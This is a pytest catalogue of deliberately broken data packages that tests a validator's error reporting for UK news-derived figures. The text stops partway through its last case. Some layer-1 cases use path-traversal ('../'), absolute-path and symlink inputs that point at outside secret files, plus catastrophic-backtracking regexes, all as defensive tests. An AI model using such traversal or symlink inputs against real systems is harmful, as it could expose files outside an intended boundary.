"""A catalogue of broken packages: each case breaks a copy of the valid package in one way.

Each case asserts the exact problem it introduces (path, line, field, code, and where useful words of
the message), that the set of error codes is exactly what that mistake should cause (no cascading
noise), and that validation never changes a byte of the package or reveals a file outside it.

Layer-4 cases that change ``value`` also make provenance report ``value-mismatch`` on the same row
(value_text still reads as the old number); those cases list ``value-mismatch`` in their expected
codes. Cases that change ``per``, ``measure_type``, periods or dates need no such companion.
"""

from __future__ import annotations

import builtins
import io
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from broken_packages import DESCRIPTOR, SECRET, Expect, Pkg, encode_row, parse_row, snapshot
from hypothesis import example, given
from hypothesis import strategies as st

from ukcsa_data.cli import main
from ukcsa_data.validation.codes import CODES
from ukcsa_data.validation.problems import Problem, Report
from ukcsa_data.validation.runner import validate_package

FIGURES, SOURCES, EXCLUSIONS, RELATIONS = (
    f"dataset/{n}.csv" for n in ("figures", "sources", "exclusions", "relations")
)


@dataclass(frozen=True)
class Case:
    """One broken package: how to break it, and the exact error codes the whole report must hold."""

    id: str
    breaks: Callable[[Pkg], list[Expect]]
    errors: frozenset[str]

    @property
    def valid(self) -> bool:
        return not self.errors


def case(case_id: str, *codes: str) -> Callable[[Callable[[Pkg], list[Expect]]], Case]:
    def register(breaks: Callable[[Pkg], list[Expect]]) -> Case:
        made = Case(case_id, breaks, frozenset(codes))
        CASES.append(made)
        return made

    return register


CASES: list[Case] = []
# A row that nothing else refers to and whose number is covered only by it: "saw 131 suspects arrested".
PLAIN = "fig-0010"


# =============================================================================================
# Layer 1: safety, before reading data
# =============================================================================================


@case("l1-descriptor-duplicate-key", "invalid-json")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.descriptor_line('  "version": ')
    lines = pkg.text(DESCRIPTOR).split("\n")
    lines.insert(line, '  "version": "9.9.9",')
    pkg.write(DESCRIPTOR, "\n".join(lines).encode("utf-8"))
    return [Expect(DESCRIPTOR, line + 1, None, "invalid-json", ("duplicate key", "version"))]


@case("l1-descriptor-duplicate-key-inside-a-resource", "invalid-json")
def _(pkg: Pkg) -> list[Expect]:
    # "format" appears once per resource: the duplicate is on the inserted line, wherever others are.
    line = pkg.descriptor_line('"format": "csv"', after='"name": "figures"')
    lines = pkg.text(DESCRIPTOR).split("\n")
    lines.insert(line, '      "format": "tsv",')
    pkg.write(DESCRIPTOR, "\n".join(lines).encode("utf-8"))
    return [Expect(DESCRIPTOR, line + 1, None, "invalid-json", ("duplicate key", "format"))]


@case("l1-descriptor-nan", "invalid-json")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.descriptor_line('"bytes": ', after='"name": "figures"')
    lines = pkg.text(DESCRIPTOR).split("\n")
    lines[line - 1] = '      "bytes": NaN,'
    pkg.write(DESCRIPTOR, "\n".join(lines).encode("utf-8"))
    return [Expect(DESCRIPTOR, line, None, "invalid-json", ("NaN",))]


@case("l1-descriptor-syntax-error", "invalid-json")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.descriptor_line('  "version": ')
    lines = pkg.text(DESCRIPTOR).split("\n")
    version = json.loads("{" + lines[line - 1].rstrip(",") + "}")["version"]
    lines[line - 1] = f"  \"version\": '{version}',"
    pkg.write(DESCRIPTOR, "\n".join(lines).encode("utf-8"))
    column = lines[line - 1].index("'") + 1
    return [Expect(DESCRIPTOR, line, None, "invalid-json", (f"column {column}",))]


def _set_figures_path(pkg: Pkg, path: str) -> None:
    descriptor = pkg.descriptor()
    pkg.resource(descriptor, "figures")["path"] = path
    pkg.dump_json(DESCRIPTOR, descriptor)


# When figures.path points elsewhere, dataset/figures.csv really is no longer listed.
_ORPHAN = Expect(FIGURES, None, None, "unlisted-file")


@case("l1-resource-path-url", "resource-path", "remote-reference", "unlisted-file")
def _(pkg: Pkg) -> list[Expect]:
    _set_figures_path(pkg, "http://example.com/figures.csv")
    return [
        Expect(DESCRIPTOR, None, "figures.path", "resource-path"),
        Expect(DESCRIPTOR, None, "figures.path", "remote-reference", ("URL",)),
        _ORPHAN,
    ]


@case("l1-resource-path-absolute", "resource-path", "unsafe-path", "unlisted-file")
def _(pkg: Pkg) -> list[Expect]:
    target = pkg.make_outside_file("figures.csv", SECRET + "\n")
    _set_figures_path(pkg, str(target))
    return [
        Expect(DESCRIPTOR, None, "figures.path", "resource-path"),
        Expect(DESCRIPTOR, None, "figures.path", "unsafe-path"),
        _ORPHAN,
    ]


@case("l1-resource-path-dotdot", "resource-path", "unsafe-path", "unlisted-file")
def _(pkg: Pkg) -> list[Expect]:
    pkg.make_outside_file("figures.csv", SECRET + "\n")
    _set_figures_path(pkg, "../outside/figures.csv")
    return [
        Expect(DESCRIPTOR, None, "figures.path", "resource-path"),
        Expect(DESCRIPTOR, None, "figures.path", "unsafe-path", ("..",)),
        _ORPHAN,
    ]


@case("l1-csv-symlink-outside-package", "symlink")
def _(pkg: Pkg) -> list[Expect]:
    # A table that would be reported line by line if it were read: its header names the secret.
    target = pkg.make_outside_file("figures.csv", f"{SECRET},{SECRET}\n{SECRET},1\n")
    (pkg.root / FIGURES).unlink()
    (pkg.root / FIGURES).symlink_to(target)
    return [
        Expect(DESCRIPTOR, None, "figures.path", "symlink"),
        Expect(FIGURES, None, None, "symlink"),
    ]


@case("l1-seed-symlink-outside-package", "symlink")
def _(pkg: Pkg) -> list[Expect]:
    seed = pkg.seed_of("deeside-2020")
    target = pkg.make_outside_file("seed.txt", pkg.text(seed) + SECRET + " 123456\n")
    line = pkg.find_line("sources", source_id="deeside-2020")
    (pkg.root / seed).unlink()
    (pkg.root / seed).symlink_to(target)
    return [Expect(SOURCES, line, "seed_file", "symlink"), Expect(seed, None, None, "symlink")]


@case("l1-unlisted-csv", "unlisted-file")
def _(pkg: Pkg) -> list[Expect]:
    pkg.write("dataset/figures-old.csv", b"figure_id,value\nfig-0001,80000\n")
    return [Expect("dataset/figures-old.csv", None, None, "unlisted-file")]


@case("l1-unlisted-seed", "unlisted-file")
def _(pkg: Pkg) -> list[Expect]:
    pkg.write("seeds/004_extra.txt", b"An article nobody lists, with 12 numbers.\n")
    return [Expect("seeds/004_extra.txt", None, None, "unlisted-file")]


@case("l1-profile-key", "remote-reference")
def _(pkg: Pkg) -> list[Expect]:
    descriptor = pkg.descriptor()
    descriptor["profile"] = "tabular-data-package"
    pkg.dump_json(DESCRIPTOR, descriptor)
    return [Expect(DESCRIPTOR, None, "profile", "remote-reference", ("profile",))]


@case("l1-unknown-schema-url-in-descriptor", "remote-reference")
def _(pkg: Pkg) -> list[Expect]:
    descriptor = pkg.descriptor()
    descriptor["$schema"] = "https://example.com/profiles/datapackage.json"
    pkg.dump_json(DESCRIPTOR, descriptor)
    return [Expect(DESCRIPTOR, None, "$schema", "remote-reference")]


@case("l1-unknown-schema-url-in-table-schema", "remote-reference")
def _(pkg: Pkg) -> list[Expect]:
    schema = pkg.load_json(pkg.schema_path("figures"))
    schema["$schema"] = "https://example.com/profiles/tableschema.json"
    pkg.dump_json(pkg.schema_path("figures"), schema)
    return [Expect(pkg.schema_path("figures"), None, "$schema", "remote-reference")]


@case("l1-hash-uppercase-prefix", "hash-format")
def _(pkg: Pkg) -> list[Expect]:
    descriptor = pkg.descriptor()
    resource = pkg.resource(descriptor, "figures")
    resource["hash"] = resource["hash"].replace("sha256:", "SHA256:")
    pkg.dump_json(DESCRIPTOR, descriptor)
    return [Expect(DESCRIPTOR, None, "figures.hash", "hash-format", ("SHA256:",))]


@case("l1-hash-wrong-digest", "resource-hash")
def _(pkg: Pkg) -> list[Expect]:
    descriptor = pkg.descriptor()
    pkg.resource(descriptor, "figures")["hash"] = "sha256:" + "0" * 64
    pkg.dump_json(DESCRIPTOR, descriptor)
    return [Expect(DESCRIPTOR, None, "figures.hash", "resource-hash")]


@case("l1-missing-resource", "missing-resource")
def _(pkg: Pkg) -> list[Expect]:
    descriptor = pkg.descriptor()
    descriptor["resources"] = [r for r in descriptor["resources"] if r["name"] != "relations"]
    pkg.dump_json(DESCRIPTOR, descriptor)
    (pkg.root / RELATIONS).unlink()
    return [Expect(DESCRIPTOR, None, "relations", "missing-resource")]


@case("l1-missing-csv-file", "missing-file")
def _(pkg: Pkg) -> list[Expect]:
    (pkg.root / RELATIONS).unlink()
    return [Expect(DESCRIPTOR, None, "relations.path", "missing-file")]


@case("l1-schema-pattern-nested-plus", "schema-pattern")
def _(pkg: Pkg) -> list[Expect]:
    pkg.edit_schema_field("figures", "figure_id", constraints={"required": True, "pattern": "(a+)+$"})
    return [Expect(pkg.schema_path("figures"), None, "figure_id", "schema-pattern", ("backtrack",))]


@case("l1-schema-pattern-repeated-slug-group", "schema-pattern")
def _(pkg: Pkg) -> list[Expect]:
    pkg.edit_schema_field("figures", "statistic_id", constraints={"pattern": "([a-z0-9]+-?)*"})
    return [Expect(pkg.schema_path("figures"), None, "statistic_id", "schema-pattern", ("backtrack",))]


@case("l1-schema-minimum-on-untyped-field", "contract")
def _(pkg: Pkg) -> list[Expect]:
    # A field without 'type' is a string, which its minimum cannot bound (found by the fuzz
    # property: exit 2). The retype is the root cause, reported once.
    pkg.edit_schema_field("figures", "occurrence", type=None)
    return [Expect(pkg.schema_path("figures"), None, "occurrence", "contract", ("required integer",))]


@case("l1-schema-minimum-on-string-field", "schema-invalid")
def _(pkg: Pkg) -> list[Expect]:
    pkg.edit_schema_field("figures", "measure", constraints={"required": True, "minimum": 1})
    return [Expect(pkg.schema_path("figures"), None, "measure", "schema-invalid", ("only to number",))]


@case("l1-schema-date-bound-not-a-date", "schema-invalid")
def _(pkg: Pkg) -> list[Expect]:
    pkg.edit_schema_field("figures", "period_start", constraints={"minimum": "01/01/2000"})
    pkg.edit_schema_field("figures", "period_end", constraints={"maximum": 2030})
    return [
        Expect(pkg.schema_path("figures"), None, "period_start", "schema-invalid", ("YYYY-MM-DD",)),
        Expect(pkg.schema_path("figures"), None, "period_end", "schema-invalid", ("YYYY-MM-DD",)),
    ]


@case("l1-schema-date-in-another-format", "schema-invalid")
def _(pkg: Pkg) -> list[Expect]:
    # The validator reads YYYY-MM-DD only; a schema must not claim another format.
    pkg.edit_schema_field("sources", "published_date", format="%d/%m/%Y")
    return [Expect(pkg.schema_path("sources"), None, "published_date", "schema-invalid", ("default format",))]


@case("l1-schema-retypes-contract-columns", "contract")
def _(pkg: Pkg) -> list[Expect]:
    # Each of these crashed a later layer (exit 2) before the contract fixed the types.
    pkg.edit_schema_field("figures", "occurrence", type="number")
    pkg.edit_schema_field("figures", "value_text", type="integer")
    pkg.edit_schema_field("figures", "value", type="string")
    path = pkg.schema_path("figures")
    return [
        Expect(path, None, "occurrence", "contract", ("required integer",)),
        Expect(path, None, "value_text", "contract", ("required string",)),
        Expect(path, None, "value", "contract", ("optional number",)),
    ]


@case("l1-schema-changes-which-contract-columns-are-required", "contract")
def _(pkg: Pkg) -> list[Expect]:
    pkg.edit_schema_field("figures", "quote", constraints={"minLength": 1})
    pkg.edit_schema_field("figures", "per", constraints={"required": True, "enum": ["year"]})
    path = pkg.schema_path("figures")
    return [
        Expect(path, None, "quote", "contract", ("a required string",)),
        Expect(path, None, "per", "contract", ("an optional string",)),
    ]


@case("l1-schema-drops-a-contract-enum", "contract")
def _(pkg: Pkg) -> list[Expect]:
    # Without its enum, load() would return plain strings instead of a Categorical.
    pkg.edit_schema_field("figures", "unit", constraints={"required": True})
    return [Expect(pkg.schema_path("figures"), None, "unit", "contract", ("with an enum",))]


@case("l1-schema-enum-values-the-validator-cannot-check", "contract")
def _(pkg: Pkg) -> list[Expect]:
    # A new per would crash annualisation (it was a KeyError); a new qualifier or operation would
    # be checked as something it is not. Each needs a code change first.
    pkg.edit_schema_field("figures", "per", constraints={"enum": ["day", "week", "month", "year", "quarter"]})
    schema = pkg.load_json(pkg.schema_path("relations"))
    next(f for f in schema["fields"] if f["name"] == "operation")["constraints"]["enum"].append("ratio")
    pkg.dump_json(pkg.schema_path("relations"), schema)
    return [
        Expect(pkg.schema_path("figures"), None, "per", "contract", ("'quarter'",)),
        Expect(pkg.schema_path("relations"), None, "operation", "contract", ("'ratio'",)),
    ]


@case("l1-schema-foreign-key-to-a-missing-column", "contract")
def _(pkg: Pkg) -> list[Expect]:
    # It crashed layer 3 (KeyError) before the contract fixed the keys.
    schema = pkg.load_json(pkg.schema_path("figures"))
    schema["foreignKeys"][0]["reference"]["fields"] = ["nope"]
    pkg.dump_json(pkg.schema_path("figures"), schema)
    return [Expect(pkg.schema_path("figures"), None, "foreignKeys", "contract", ("source_id -> sources",))]


@case("l1-schema-drops-keys", "contract")
def _(pkg: Pkg) -> list[Expect]:
    # Without them a duplicate figure_id or a relation to a missing figure would pass.
    schema = pkg.load_json(pkg.schema_path("relations"))
    schema["foreignKeys"] = schema["foreignKeys"][:1]
    pkg.dump_json(pkg.schema_path("relations"), schema)
    schema = pkg.load_json(pkg.schema_path("figures"))
    del schema["primaryKey"]
    pkg.dump_json(pkg.schema_path("figures"), schema)
    return [
        Expect(pkg.schema_path("figures"), None, "primaryKey", "contract", ("['figure_id']",)),
        Expect(pkg.schema_path("relations"), None, "foreignKeys", "contract", ("to_figure_id",)),
    ]


@case("l5-occurrence-zero-when-the-schema-minimum-is-dropped", "occurrence-out-of-range")
def _(pkg: Pkg) -> list[Expect]:
    # Occurrence 0 would have meant the last match (Python's index -1); now it is reported.
    pkg.edit_schema_field("figures", "occurrence", constraints={"required": True})
    pkg.set_cell("figures", 2, "occurrence", "0")
    return [Expect("dataset/figures.csv", 2, "occurrence", "occurrence-out-of-range", ("count from 1",))]


@case("l1-schema-drops-contract-column", "contract")
def _(pkg: Pkg) -> list[Expect]:
    schema = pkg.load_json(pkg.schema_path("figures"))
    schema["fields"] = [f for f in schema["fields"] if f["name"] != "notes"]
    pkg.dump_json(pkg.schema_path("figures"), schema)
    return [Expect(pkg.schema_path("figures"), None, None, "contract")]


@case("l1-schema-renames-contract-column", "contract")
def _(pkg: Pkg) -> list[Expect]:
    schema = pkg.load_json(pkg.schema_path("sources"))
    next(f for f in schema["fields"] if f["name"] == "url")["name"] = "link"
    pkg.dump_json(pkg.schema_path("sources"), schema)
    return [Expect(pkg.schema_path("sources"), None, None, "contract")]


# =============================================================================================
# Layer 2: bytes and dialect (hash and bytes re-synced after every edit)
# =============================================================================================


@case("l2-empty-file", "empty-file")
def _(pkg: Pkg) -> list[Expect]:
    pkg.write_table("figures", b"")
    return [Expect(FIGURES, None, None, "empty-file")]


@case("l2-header-only", "no-rows")
def _(pkg: Pkg) -> list[Expect]:
    # relations: no other table refers to it, so an empty relations table is the only problem.
    pkg.write_lines("relations", pkg.lines("relations")[:1])
    return [Expect(RELATIONS, None, None, "no-rows")]


@case("l2-binary-file-png", "binary-file")
def _(pkg: Pkg) -> list[Expect]:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"
    pkg.write_table("figures", png + bytes(range(256)) * 8)
    return [Expect(FIGURES, None, None, "binary-file")]


@case("l2-git-lfs-pointer", "lfs-pointer")
def _(pkg: Pkg) -> list[Expect]:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'ab' * 32}\nsize 16247\n"
    pkg.write_table("figures", pointer)
    return [Expect(FIGURES, 1, None, "lfs-pointer")]


@case("l2-utf16", "encoding")
def _(pkg: Pkg) -> list[Expect]:
    pkg.write_table("figures", pkg.text(FIGURES).encode("utf-16"))
    return [Expect(FIGURES, 1, None, "encoding", ("UTF-16",))]


@case("l2-cp1252-whole-file", "encoding")
def _(pkg: Pkg) -> list[Expect]:
    text = pkg.text(FIGURES)
    at = next(i for i, ch in enumerate(text) if ord(ch) > 127)
    line = text.count("\n", 0, at) + 1
    column = at - (text.rfind("\n", 0, at) + 1) + 1
    byte = text[at].encode("cp1252")[0]
    pkg.write_table("figures", text.encode("cp1252"))
    return [Expect(FIGURES, line, None, "encoding", (f"0x{byte:02x}", f"column {column}"))]


@case("l2-cp1252-pound-sign", "encoding")
def _(pkg: Pkg) -> list[Expect]:
    lines = pkg.lines("figures")
    line = next(n for n, text in enumerate(lines, 1) if "£" in text)
    column = lines[line - 1].index("£") + 1
    raw = "\n".join(lines).encode("utf-8") + b"\n"
    pkg.write_table("figures", raw.replace("£".encode(), b"\xa3", 1))
    return [Expect(FIGURES, line, None, "encoding", ("0xa3", f"column {column}"))]


@case("l2-utf8-bom", "bom")
def _(pkg: Pkg) -> list[Expect]:
    pkg.write_table("figures", b"\xef\xbb\xbf" + pkg.read(FIGURES))
    return [Expect(FIGURES, 1, None, "bom")]


@case("l2-crlf-line-endings", "line-ending")
def _(pkg: Pkg) -> list[Expect]:
    pkg.write_table("figures", pkg.read(FIGURES).replace(b"\n", b"\r\n"))
    return [Expect(FIGURES, 1, None, "line-ending", ("CRLF",))]


@case("l2-mixed-line-endings", "line-ending")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("figures", figure_id=PLAIN)
    lines = pkg.lines("figures")
    lines[line - 1] += "\r"
    pkg.write_lines("figures", lines)
    return [Expect(FIGURES, line, None, "line-ending", ("1 line(s)",))]


@case("l2-semicolon-delimiter", "delimiter")
def _(pkg: Pkg) -> list[Expect]:
    rows = [parse_row(line) for line in pkg.lines("figures")]
    out = [
        ";".join('"' + c.replace('"', '""') + '"' if any(x in c for x in ';"') else c for c in row)
        for row in rows
    ]
    pkg.write_lines("figures", out)
    return [Expect(FIGURES, 1, None, "delimiter", ("semicolons",))]


@case("l2-title-row-above-header", "header")
def _(pkg: Pkg) -> list[Expect]:
    pkg.write_lines("figures", ["Figures reported in UK news articles", *pkg.lines("figures")])
    return [Expect(FIGURES, 1, None, "header", ("line 2",))]


@case("l2-header-misspelt-column", "header")
def _(pkg: Pkg) -> list[Expect]:
    lines = pkg.lines("figures")
    lines[0] = lines[0].replace("value_text", "valuetext")
    pkg.write_lines("figures", lines)
    return [Expect(FIGURES, 1, None, "header", ("value_text",))]


@case("l2-ragged-row", "ragged-row")
def _(pkg: Pkg) -> list[Expect]:
    lines = pkg.lines("relations")
    lines[1] = encode_row(parse_row(lines[1])[:-1])
    pkg.write_lines("relations", lines)
    return [Expect(RELATIONS, 2, None, "ragged-row")]


@case("l2-ragged-figure-row-reported-once", "ragged-row")
def _(pkg: Pkg) -> list[Expect]:
    # A row dropped by layer 2 must not also make its number "uncovered" in layer 5.
    line = pkg.find_line("figures", figure_id=PLAIN)
    lines = pkg.lines("figures")
    lines[line - 1] += ",extra"
    pkg.write_lines("figures", lines)
    return [Expect(FIGURES, line, None, "ragged-row", ("21 cells",))]


@case("l2-blank-row", "blank-row")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("figures", figure_id=PLAIN)
    lines = pkg.lines("figures")
    lines.insert(line, "")
    pkg.write_lines("figures", lines)
    return [Expect(FIGURES, line + 1, None, "blank-row")]


@case("l2-stray-quote", "stray-quote")
def _(pkg: Pkg) -> list[Expect]:
    lines = pkg.lines("relations")
    assert ",percent_change," in lines[1]
    lines[1] = lines[1].replace(",percent_change,", ',percent"change,', 1)
    column = lines[1].index('"') + 1
    pkg.write_lines("relations", lines)
    return [Expect(RELATIONS, 2, None, "stray-quote", (f"column {column}",))]


@case("l2-unclosed-quote-at-end-of-file", "unclosed-quote")
def _(pkg: Pkg) -> list[Expect]:
    lines = pkg.lines("relations")
    assert lines[1].endswith('"')
    column = len(lines[1]) - lines[1][::-1].index('"', 1)
    lines[1] = lines[1][:-1]
    pkg.write_lines("relations", lines)
    return [Expect(RELATIONS, 2, None, "unclosed-quote", (f"column {column} of line 2",))]


@case("l2-unclosed-quote-mid-file", "unclosed-quote")
def _(pkg: Pkg) -> list[Expect]:
    # The notes cell of a row loses its closing quote; the next row has quoted cells of its own.
    lines = pkg.lines("figures")
    line = next(n for n, text in enumerate(lines, 1) if n > 1 and text.endswith('"') and '"' in lines[n])
    column = len(lines[line - 1]) - lines[line - 1][::-1].index('"', 1)
    lines[line - 1] = lines[line - 1][:-1]
    pkg.write_lines("figures", lines)
    return [Expect(FIGURES, line, None, "unclosed-quote", (f"line {line}", f"column {column}"))]


@case("l2-trailing-space", "whitespace")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("figures", figure_id=PLAIN)
    pkg.set_cell("figures", line, "measure", pkg.cell("figures", line, "measure") + " ")
    return [Expect(FIGURES, line, "measure", "whitespace")]


@case("l2-leading-no-break-space", "whitespace")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("figures", figure_id=PLAIN)
    pkg.set_cell("figures", line, "measure", "\u00a0" + pkg.cell("figures", line, "measure"))
    return [Expect(FIGURES, line, "measure", "whitespace", ("\\xa0",))]


@case("l2-nul-inside-cell", "control-character")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("figures", figure_id=PLAIN)
    measure = pkg.cell("figures", line, "measure")
    pkg.set_cell("figures", line, "measure", measure.replace(" ", " \x00", 1))
    return [Expect(FIGURES, line, "measure", "control-character", ("\\x00",))]


@case("l2-missing-final-newline", "final-newline")
def _(pkg: Pkg) -> list[Expect]:
    lines = pkg.lines("figures")
    pkg.write_table("figures", "\n".join(lines))
    return [Expect(FIGURES, len(lines), None, "final-newline")]


# =============================================================================================
# Layer 3: types and constraints. A row with an invalid cell is skipped by later layers.
# =============================================================================================

NUMBERS = {
    "007": "leading zeros",
    "+5": "plus sign",
    "1_000": "separators",
    "８０": "ASCII digits",
    "NaN": "finite",
    "inf": "finite",
    "80000.0": "trailing zeros",
    "1.23457E+11": "scientific notation",
}
for _text, _hint in NUMBERS.items():

    @case(f"l3-number-{_text}", "type-error")
    def _(pkg: Pkg, text: str = _text, hint: str = _hint) -> list[Expect]:
        line = pkg.set_figure(PLAIN, "value", text)
        return [Expect(FIGURES, line, "value", "type-error", (hint,))]


DATES = {"1-Mar": "spreadsheet", "03/09/2018": "spreadsheet", "2021-02-30": "no such calendar date"}
for _text, _hint in DATES.items():

    @case(f"l3-date-{_text.replace('/', '-')}", "type-error")
    def _(pkg: Pkg, text: str = _text, hint: str = _hint) -> list[Expect]:
        line = pkg.set_figure("fig-0037", "period_start", text)
        return [Expect(FIGURES, line, "period_start", "type-error", (hint,))]


@case("l3-published-date-day-first", "type-error")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_cell(
        "sources", pkg.find_line("sources", source_id="deeside-2020"), "published_date", "03/04/2020"
    )
    return [Expect(SOURCES, line, "published_date", "type-error")]


@case("l3-enum", "enum")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "unit", "persons")
    return [Expect(FIGURES, line, "unit", "enum", ('"persons"',))]


@case("l3-pattern", "pattern")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "statistic_id", "Week-Long-Crackdown")
    return [Expect(FIGURES, line, "statistic_id", "pattern")]


@case("l3-required-missing", "required")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "measure", "")
    return [Expect(FIGURES, line, "measure", "required")]


@case("l3-duplicate-primary-key", "primary-key", "unique")
def _(pkg: Pkg) -> list[Expect]:
    # figure_id is both the primary key and 'unique' in the schema: both constraints are broken.
    line = pkg.set_figure("fig-0011", "figure_id", PLAIN)
    return [
        Expect(FIGURES, line, "figure_id", "primary-key", (PLAIN,)),
        Expect(FIGURES, line, "figure_id", "unique", (PLAIN,)),
    ]


@case("l3-duplicate-exclusion-row-reported-once", "primary-key")
def _(pkg: Pkg) -> list[Expect]:
    # A repeated row fails the primary key; layer 5 must not report its token as covered twice too.
    line = pkg.find_line("exclusions", source_id="sheffield-telegraph-2018", text="five")
    lines = pkg.lines("exclusions")
    lines.append(lines[line - 1])
    pkg.write_lines("exclusions", lines)
    return [Expect(EXCLUSIONS, len(lines), "source_id,quote,occurrence,text", "primary-key")]


@case("l3-foreign-key-to-missing-source", "foreign-key")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "source_id", "sheffield-telegraph-2019")
    return [Expect(FIGURES, line, "source_id", "foreign-key", ("sheffield-telegraph-2019",))]


@case("l3-foreign-key-to-missing-figure", "foreign-key")
def _(pkg: Pkg) -> list[Expect]:
    pkg.set_cell("relations", 2, "result_figure_id", "fig-9999")
    return [Expect(RELATIONS, 2, "result_figure_id", "foreign-key", ("fig-9999",))]


# =============================================================================================
# Layer 4: semantics
# =============================================================================================


@case("l4-people-above-uk-population", "implausible-value", "value-mismatch")
def _(pkg: Pkg) -> list[Expect]:
    # value changed: value_text still reads 300,000, so provenance adds value-mismatch on the row.
    line = pkg.set_figure("fig-0021", "value", "80000000")
    assert pkg.cell("figures", line, "geography") == "UK"
    return [
        Expect(FIGURES, line, "value", "implausible-value", ("70,000,000",)),
        Expect(FIGURES, line, "value", "value-mismatch"),
    ]


@case("l4-people-rate-above-population", "implausible-value")
def _(pkg: Pkg) -> list[Expect]:
    # 400,000 people a day is 146 million a year: only `per` changes, so no provenance check applies.
    line = pkg.set_figure("fig-0034", "per", "day")
    assert pkg.cell("figures", line, "geography") == "Great Britain"
    return [Expect(FIGURES, line, "value", "implausible-value", ("x365",))]


@case("l4-percent-level-above-100", "implausible-value")
def _(pkg: Pkg) -> list[Expect]:
    # "surged by 700 per cent" as a level: only measure_type changes.
    line = pkg.set_figure("fig-0007", "measure_type", "level")
    return [Expect(FIGURES, line, "value", "implausible-value", ("700 percent",))]


@case("l4-percent-change-below-minus-100", "implausible-value", "value-mismatch")
def _(pkg: Pkg) -> list[Expect]:
    # A fall of 150 per cent is impossible (plausibility.csv: a change is at least -100).
    line = pkg.set_figure("fig-0007", "value", "-150")
    return [
        Expect(FIGURES, line, "value", "implausible-value", ("-150",)),
        Expect(FIGURES, line, "value", "value-mismatch"),
    ]


@case("l4-percent-change-below-minus-100-schema-allows-negatives", "implausible-value", "value-mismatch")
def _(pkg: Pkg) -> list[Expect]:
    # The same, with the schema's `minimum: 0` on value removed, so layer 4 is reached whatever.
    pkg.edit_schema_field("figures", "value", constraints={})
    line = pkg.set_figure("fig-0007", "value", "-150")
    return [
        Expect(FIGURES, line, "value", "implausible-value", ("-150",)),
        Expect(FIGURES, line, "value", "value-mismatch"),
    ]


@case("l4-fractional-count", "not-whole-number", "value-mismatch")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "value", "131.5")
    return [
        Expect(FIGURES, line, "value", "not-whole-number", ("131.5 suspects",)),
        Expect(FIGURES, line, "value", "value-mismatch"),
    ]


@case("l4-low-above-high", "low-above-high", "value-mismatch")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure("fig-0028", "value_low", "6")
    return [
        Expect(FIGURES, line, "value_low", "low-above-high"),
        Expect(FIGURES, line, "value", "value-mismatch"),
    ]


@case("l4-range-without-bound", "range-bounds", "value-mismatch")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure("fig-0028", "value_high", "")
    return [
        Expect(FIGURES, line, "qualifier", "range-bounds"),
        Expect(FIGURES, line, "value", "value-mismatch"),
    ]


@case("l4-single-figure-with-bounds", "range-bounds", "value-mismatch")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "value_low", "100")
    return [
        Expect(FIGURES, line, "qualifier", "range-bounds", ("exact",)),
        Expect(FIGURES, line, "value", "value-mismatch"),
    ]


@case("l4-percent-as-rate", "unit-per")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure("fig-0007", "per", "year")
    return [Expect(FIGURES, line, "per", "unit-per", ("percent",))]


@case("l4-change-in-count-unit", "unit-measure-type")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "measure_type", "change")
    return [Expect(FIGURES, line, "unit", "unit-measure-type", ("suspects",))]


@case("l4-period-start-after-end", "period-order")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure("fig-0037", "period_start", "2022-02-28")
    pkg.set_figure("fig-0037", "period_end", "2021-03-01")
    return [Expect(FIGURES, line, "period_start", "period-order")]


@case("l4-period-after-publication", "period-after-publication")
def _(pkg: Pkg) -> list[Expect]:
    source = pkg.find_line("sources", source_id="sunday-express-2022")
    published = pkg.cell("sources", source, "published_date")
    line = pkg.set_figure("fig-0038", "period_end", "2022-06-30")
    assert published < "2022-06-30"
    return [Expect(FIGURES, line, "period_end", "period-after-publication", (published,))]


@case("l4-published-before-1990", "published-date-range")
def _(pkg: Pkg) -> list[Expect]:
    # deeside-2020's figures carry no periods, so no period can end after the new date.
    line = pkg.set_cell(
        "sources", pkg.find_line("sources", source_id="deeside-2020"), "published_date", "1989-12-31"
    )
    return [Expect(SOURCES, line, "published_date", "published-date-range", ("1989-12-31",))]


@case("l4-published-in-the-future", "published-date-range")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_cell(
        "sources", pkg.find_line("sources", source_id="deeside-2020"), "published_date", "2999-01-01"
    )
    return [Expect(SOURCES, line, "published_date", "published-date-range")]


# =============================================================================================
# Layer 5: provenance and coverage
# =============================================================================================


@case("l5-quote-no-break-space-typed-as-space", "quote-whitespace")
def _(pkg: Pkg) -> list[Expect]:
    figure = next(parse_row(text)[0] for text in pkg.lines("figures")[1:] if "\u00a0" in parse_row(text)[2])
    line = pkg.find_line("figures", figure_id=figure)
    pkg.set_cell("figures", line, "quote", pkg.cell("figures", line, "quote").replace("\u00a0", " "))
    return [Expect(FIGURES, line, "quote", "quote-whitespace", ("U+00A0",))]


@case("l5-quote-curly-quote-typed-straight", "quote-characters")
def _(pkg: Pkg) -> list[Expect]:
    figure = next(parse_row(text)[0] for text in pkg.lines("figures")[1:] if "\u2018" in parse_row(text)[2])
    line = pkg.find_line("figures", figure_id=figure)
